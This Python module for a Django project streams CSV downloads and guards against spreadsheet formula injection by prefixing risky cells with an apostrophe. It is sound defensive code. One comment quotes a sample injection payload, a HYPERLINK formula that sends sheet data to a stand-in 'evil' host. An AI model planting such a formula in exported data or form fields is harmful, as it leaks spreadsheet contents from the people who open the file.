"""CSV downloads that a spreadsheet opens safely, streamed so a large export holds no list.

Used by the sign-in log and by the feedback admin's export action.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse

#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
#: (tab and carriage return too: some of them skip leading white space before parsing).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """``value`` as text; a cell that a spreadsheet would run as a formula gets a leading '."""
    text = "" if value is None else str(value)
    # CSV formula injection: a typed feedback message or e-mail address like
    # =HYPERLINK("http://evil/?"&A1) would run in the admin's spreadsheet and leak the sheet.
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() returns what it was given, for csv.writer."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text, one line at a time, every cell through :func:`safe_cell`."""
    writer = csv.writer(_Echo())
    yield str(writer.writerow([safe_cell(cell) for cell in header]))
    for row in rows:
        yield str(writer.writerow([safe_cell(cell) for cell in row]))


def csv_response(
    filename: str, header: Iterable[str], rows: Iterable[Iterable[Any]]
) -> StreamingHttpResponse:
    """A streamed ``text/csv`` download named ``filename`` (a fixed ASCII name of ours)."""
    # A byte order mark first, so that Excel reads the UTF-8 (names like Äijälä) correctly.
    lines = _with_bom(csv_lines(header, rows))
    response = StreamingHttpResponse(lines, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    # Personal data: no shared cache or browser history keeps a copy.
    response["Cache-Control"] = "no-store"
    return response


def _with_bom(lines: Iterator[str]) -> Iterator[str]:
    yield "\ufeff"
    yield from lines
